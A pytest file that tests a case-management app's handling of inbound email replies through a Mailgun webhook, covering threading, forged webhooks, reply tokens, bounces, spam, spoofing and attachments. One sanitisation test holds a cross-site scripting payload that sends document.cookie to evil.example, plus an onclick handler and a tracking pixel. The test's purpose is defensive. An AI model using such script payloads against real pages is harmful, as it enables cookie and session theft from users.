"""Replies come back through anymail's Mailgun inbound webhook (signed, basic auth)
and land on the case timeline, or in quarantine with the reason."""

import pytest

from cases.models import Case, CaseEvent
from demo.mail_samples import (
    apple_mail_reply,
    bounce,
    gmail_reply,
    out_of_office,
    outlook_reply,
    plain_client_reply,
    with_attachment,
)
from inbound_mail.models import InboundEmail
from notifications.models import OutboundEmail

NEW_TEXT = "The account northwind-design belongs to my cousin Anna.\nWe shared a laptop for a month."


def _reply_address(outbound: OutboundEmail) -> str:
    return outbound.reply_to


def _user_messages(case):
    return list(CaseEvent.objects.filter(case=case, type=CaseEvent.Type.MESSAGE_FROM_USER))


@pytest.mark.parametrize(
    "client_format", [gmail_reply, outlook_reply, apple_mail_reply, plain_client_reply], ids=lambda f: f.__name__
)
def test_a_reply_through_the_webhook_lands_on_the_case_timeline(sent_email, case, subject, mailgun, client_format):
    raw = client_format(new_text=NEW_TEXT, to=_reply_address(sent_email), in_reply_to=sent_email.message_id)

    response = mailgun.inbound(raw, recipient=sent_email.reply_to.split("<")[-1].rstrip(">"))

    assert response.status_code == 200
    (event,) = _user_messages(case)
    assert event.body == NEW_TEXT
    assert event.account == subject and event.visible_to_user
    assert event.data["via"] == "email"
    assert "Reply above this line" in event.data["original_text"]  # the quote is kept, folded
    inbound = InboundEmail.objects.get()
    assert inbound.status == InboundEmail.Status.THREADED and inbound.event == event
    assert inbound.raw == raw.decode("utf-8", "surrogateescape").encode("utf-8", "surrogateescape")
    refreshed = Case.objects.get(pk=case.pk)
    assert refreshed.has_new_user_reply and refreshed.status != Case.Status.AWAITING_USER


def test_forged_webhooks_are_refused_and_store_nothing(sent_email, mailgun):
    raw = gmail_reply(new_text="forged", to=sent_email.reply_to, in_reply_to=sent_email.message_id)
    assert mailgun.inbound(raw, key="someone-elses-key").status_code == 400
    assert mailgun.inbound(raw, auth=mailgun.basic_auth("hook:wrong-password")).status_code == 400
    assert mailgun.inbound(raw, auth="Basic").status_code == 400
    assert InboundEmail.objects.count() == 0


def test_a_redelivered_webhook_adds_nothing(sent_email, case, mailgun):
    raw = gmail_reply(new_text=NEW_TEXT, to=sent_email.reply_to, in_reply_to=sent_email.message_id)
    assert mailgun.inbound(raw).status_code == 200
    assert mailgun.inbound(raw).status_code == 200
    assert InboundEmail.objects.count() == 1
    assert len(_user_messages(case)) == 1


def test_a_reply_from_a_different_sender_is_quarantined(sent_email, case, mailgun):
    raw = gmail_reply(
        new_text="I am Fred's lawyer.",
        to=sent_email.reply_to,
        in_reply_to=sent_email.message_id,
        from_="Someone Else <someone@elsewhere.example>",
    )
    mailgun.inbound(raw)
    inbound = InboundEmail.objects.get()
    assert (inbound.status, inbound.reason) == (InboundEmail.Status.QUARANTINED, InboundEmail.Reason.SENDER_MISMATCH)
    assert "someone@elsewhere.example" in inbound.detail
    assert inbound.case == case  # suggested to the reviewer
    assert _user_messages(case) == []


def test_a_tampered_reply_token_is_quarantined(sent_email, case, mailgun):
    local, domain = sent_email.reply_to.split("<")[-1].rstrip(">").split("@")
    forged_address = f"{local[:-1]}{'a' if local[-1] != 'a' else 'b'}@{domain}"
    mailgun.inbound(gmail_reply(new_text="let me in", to=forged_address, in_reply_to=None))
    inbound = InboundEmail.objects.get()
    assert (inbound.status, inbound.reason) == (InboundEmail.Status.QUARANTINED, InboundEmail.Reason.TOKEN_INVALID)
    assert _user_messages(case) == []


def test_a_forged_token_for_another_case_is_quarantined(sent_email, mailgun, subject, reviewer):
    from cases.services import case_open

    other = case_open(kind="paid_feedback", accounts=[subject], actor=reviewer)
    local, domain = sent_email.reply_to.split("<")[-1].rstrip(">").split("@")
    token = local.removeprefix("reply+")
    _case_part, email_part, mac = token.split("-")
    forged = f"reply+{other.pk:x}-{email_part}-{mac}@{domain}"
    mailgun.inbound(gmail_reply(new_text="hi", to=forged, in_reply_to=None))
    assert InboundEmail.objects.get().reason == InboundEmail.Reason.TOKEN_INVALID


def test_without_a_token_in_reply_to_a_message_we_sent_threads(sent_email, case, mailgun):
    raw = gmail_reply(new_text=NEW_TEXT, to="Trust <trust@example.com>", in_reply_to=sent_email.message_id)
    mailgun.inbound(raw)
    assert InboundEmail.objects.get().status == InboundEmail.Status.THREADED
    assert _user_messages(case)[0].body == NEW_TEXT


def test_a_message_with_no_recognisable_thread_is_quarantined(db, mailgun):
    raw = gmail_reply(new_text="Hello, why is my account blocked?", to="trust@example.com", in_reply_to=None)
    mailgun.inbound(raw)
    inbound = InboundEmail.objects.get()
    assert (inbound.status, inbound.reason) == (InboundEmail.Status.QUARANTINED, InboundEmail.Reason.NO_THREAD)
    assert inbound.reply_text == "Hello, why is my account blocked?"


def test_an_out_of_office_reply_does_not_count_as_the_users_reply(sent_email, case, mailgun):
    mailgun.inbound(out_of_office(to=sent_email.reply_to, in_reply_to=sent_email.message_id))
    inbound = InboundEmail.objects.get()
    assert (inbound.status, inbound.reason) == (InboundEmail.Status.AUTO_REPLY, "auto_reply")
    assert inbound.case == case
    assert _user_messages(case) == []
    assert not Case.objects.get(pk=case.pk).has_new_user_reply


def test_a_bounce_to_the_emails_signed_return_path_marks_it_bounced_and_flags_the_case(sent_email, case, mailgun):
    from django.core import mail

    return_path = mail.outbox[-1].anymail_test_params["envelope_sender"]  # what the MTA bounces to
    mailgun.inbound(bounce(original_message_id=sent_email.message_id, return_path=return_path), recipient=return_path)
    inbound = InboundEmail.objects.get()
    assert (inbound.status, inbound.reason) == (InboundEmail.Status.AUTO_REPLY, "bounce")
    sent_email.refresh_from_db()
    assert sent_email.status == OutboundEmail.Status.BOUNCED
    assert Case.objects.get(pk=case.pk).notice_undeliverable
    assert CaseEvent.objects.filter(case=case, type=CaseEvent.Type.EMAIL_BOUNCED).count() == 1
    assert _user_messages(case) == []


def test_an_html_only_reply_with_a_script_is_reduced_to_its_text(sent_email, case, mailgun, reviewer, client):
    from email.message import EmailMessage
    from email.policy import SMTP

    msg = EmailMessage()
    msg["From"] = "Fred Freelancer <subject@test.example>"
    msg["To"] = sent_email.reply_to
    msg["Subject"] = "Re: information"
    msg["Message-ID"] = "<html-only@client.example>"
    msg.set_content(
        "<html><head><script>alert('head')</script></head><body><p>Here is my answer."
        "<script>document.location='https://evil.example/?'+document.cookie</script></p>"
        '<p onclick="steal()">Fred</p><img src="https://tracker.example/p.gif"></body></html>',
        subtype="html",
    )
    mailgun.inbound(msg.as_bytes(policy=SMTP))
    (event,) = _user_messages(case)
    assert event.body == "Here is my answer.\n\nFred"
    inbound = InboundEmail.objects.get()
    client.force_login(reviewer)
    page = client.get(f"/portal/quarantine/{inbound.pk}/").content.decode()
    assert "<script>document" not in page and "onclick" not in page and "tracker.example" not in page


def test_a_windows_1252_reply_is_decoded(sent_email, case, mailgun):
    raw = outlook_reply(new_text="I didn’t know – sorry.", to=sent_email.reply_to, in_reply_to=sent_email.message_id)
    assert b'charset="windows-1252"' in raw or b"charset=windows-1252" in raw
    mailgun.inbound(raw)
    assert _user_messages(case)[0].body == "I didn’t know – sorry."


def test_an_oversize_attachment_is_refused_with_a_note_for_the_reviewer(sent_email, case, mailgun):
    raw = gmail_reply(new_text="Invoices attached.", to=sent_email.reply_to, in_reply_to=sent_email.message_id)
    raw = with_attachment(raw, filename="invoices.pdf", content_type="application/pdf", data=b"%PDF-1.7\n" * 200_000)
    raw = with_attachment(raw, filename="chat.png", content_type="image/png", data=b"\x89PNG\r\n\x1a\n" + b"0" * 500)
    mailgun.inbound(raw)
    (event,) = _user_messages(case)
    attachments = {a["filename"]: a for a in event.data["attachments"]}
    assert attachments["chat.png"]["accepted"]
    assert not attachments["invoices.pdf"]["accepted"] and "too large" in attachments["invoices.pdf"]["refused"]
    note = CaseEvent.objects.get(case=case, type=CaseEvent.Type.NOTE, data__inbound_email=event.data["inbound_email"])
    assert "invoices.pdf" in note.body and not note.visible_to_user


def test_the_esp_spam_verdict_quarantines(sent_email, case, mailgun):
    raw = gmail_reply(new_text="cheap pills", to=sent_email.reply_to, in_reply_to=sent_email.message_id)
    raw = raw.replace(b"From:", b"X-Mailgun-Sflag: Yes\r\nX-Mailgun-Sscore: 9.1\r\nFrom:", 1)
    mailgun.inbound(raw)
    inbound = InboundEmail.objects.get()
    assert (inbound.status, inbound.reason, inbound.spam_detected) == ("quarantined", "spam", True)


def test_a_spoofed_sender_failing_spf_and_dkim_is_quarantined(sent_email, case, mailgun):
    raw = gmail_reply(new_text="It's me, Fred", to=sent_email.reply_to, in_reply_to=sent_email.message_id)
    raw = raw.replace(b"From:", b"X-Mailgun-Spf: Fail\r\nX-Mailgun-Dkim-Check-Result: Fail\r\nFrom:", 1)
    mailgun.inbound(raw)
    assert InboundEmail.objects.get().reason == InboundEmail.Reason.AUTH_FAILED


def test_a_reply_with_no_new_text_waits_for_a_reviewer(sent_email, case, mailgun):
    mailgun.inbound(gmail_reply(new_text="", to=sent_email.reply_to, in_reply_to=sent_email.message_id))
    assert InboundEmail.objects.get().reason == InboundEmail.Reason.EMPTY
    assert _user_messages(case) == []


def test_a_reply_by_email_and_one_from_my_requests_make_the_same_event(sent_email, case, subject, mailgun):
    from cases.services import case_user_reply

    mailgun.inbound(gmail_reply(new_text=NEW_TEXT, to=sent_email.reply_to, in_reply_to=sent_email.message_id))
    case_user_reply(case=case, account=subject, body=NEW_TEXT, via="inbox")
    by_email, by_inbox = _user_messages(case)
    assert (by_email.type, by_email.body, by_email.visible_to_user, by_email.account) == (
        by_inbox.type,
        by_inbox.body,
        by_inbox.visible_to_user,
        by_inbox.account,
    )
    assert (by_email.data["via"], by_inbox.data["via"]) == ("email", "inbox")


def test_processing_errors_keep_the_message_for_review(sent_email, mailgun, monkeypatch):
    import inbound_mail.services as inbound_module

    def broken(**kwargs):
        raise RuntimeError("parser exploded")

    monkeypatch.setattr(inbound_module, "inbound_email_plan", broken)
    raw = gmail_reply(new_text="hello", to=sent_email.reply_to, in_reply_to=sent_email.message_id)
    assert mailgun.inbound(raw).status_code == 200
    inbound = InboundEmail.objects.get()
    assert (inbound.status, inbound.raw_size) == (InboundEmail.Status.ERROR, len(raw))
    monkeypatch.undo()
    mailgun.inbound(raw)  # the ESP (or an operator) delivers it again: now it threads
    assert InboundEmail.objects.get().status == InboundEmail.Status.THREADED


def test_a_reply_whose_end_is_unclear_keeps_every_word_and_the_case_page_says_so(
    sent_email, case, mailgun, reviewer, client
):
    from email.message import EmailMessage
    from email.policy import SMTP

    from django.urls import reverse

    msg = EmailMessage()
    msg["From"] = "Fred Freelancer <subject@test.example>"
    msg["To"] = sent_email.reply_to
    msg["Subject"] = "Re: information"
    msg["Message-ID"] = "<letter@client.example>"
    msg["In-Reply-To"] = sent_email.message_id
    # Written like a letter: its first lines look like a forwarded header block.
    msg.set_content("From: Fred\nTo: the review team\nSubject: my account\n\nPlease look again at my case.\n")
    mailgun.inbound(msg.as_bytes(policy=SMTP))

    (event,) = _user_messages(case)
    assert "Please look again at my case." in event.body and event.data["kept_more"] is True
    client.force_login(reviewer)
    page = client.get(reverse("cases:detail", args=[case.pk])).content.decode()
    assert "Quoted history may be included" in page and "Please look again at my case." in page
